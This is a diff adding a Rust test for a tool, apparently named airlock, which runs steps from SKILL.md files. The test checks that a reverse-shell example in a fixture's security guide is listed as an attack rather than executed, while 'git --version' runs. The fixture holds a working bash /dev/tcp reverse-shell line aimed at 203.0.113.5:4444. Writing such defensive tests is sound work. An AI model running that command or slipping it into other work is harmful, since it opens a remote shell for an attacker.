@@ -700,3 +700,34 @@ fn a_search_that_finds_nothing_does_not_fail_the_run() {
     let run = airlock(&data, &["run", erring.to_str().unwrap()]);
     assert_ne!(run.code, 0, "{}", run.stdout);
 }
+
+/// A block its label shows as an attack (a security guide's example) is listed as an example, with why, not run.
+#[test]
+fn a_block_shown_as_an_attack_is_listed_not_run() {
+    let tmp = tempfile::tempdir().unwrap();
+    let data = tmp.path().join("data");
+    let dir = tmp.path().join("review");
+    write(
+        &dir,
+        "SKILL.md",
+        &skill_md(
+            "review",
+            "A reverse shell usually looks like:\n\n```bash\nbash -i >& /dev/tcp/203.0.113.5/4444 0>&1\n```\n\nCheck the tool first:\n\n```bash\ngit --version\n```\n",
+        ),
+    );
+    let run = airlock(&data, &["run", dir.to_str().unwrap(), "--mode", "dry-run"]);
+    let out = &run.stdout;
+    let line = out.lines().find(|l| l.contains("/dev/tcp")).unwrap_or_default();
+    assert!(
+        line.contains("shown as an attack") || out.contains("an example shown as an attack"),
+        "{out}"
+    );
+    let run = airlock(&data, &["run", dir.to_str().unwrap(), "--no-install"]);
+    let (steps, rest) = run
+        .stdout
+        .split_once("Not run (listed, with why):")
+        .unwrap_or_else(|| panic!("{}", run.stdout));
+    assert!(steps.contains("git --version  -> exit 0"), "{}", run.stdout);
+    assert!(!steps.contains("/dev/tcp"), "{}", run.stdout);
+    assert!(rest.contains("an example shown as an attack or as what not to do (after `A reverse shell usually looks like:`)"), "{}", run.stdout);
+}
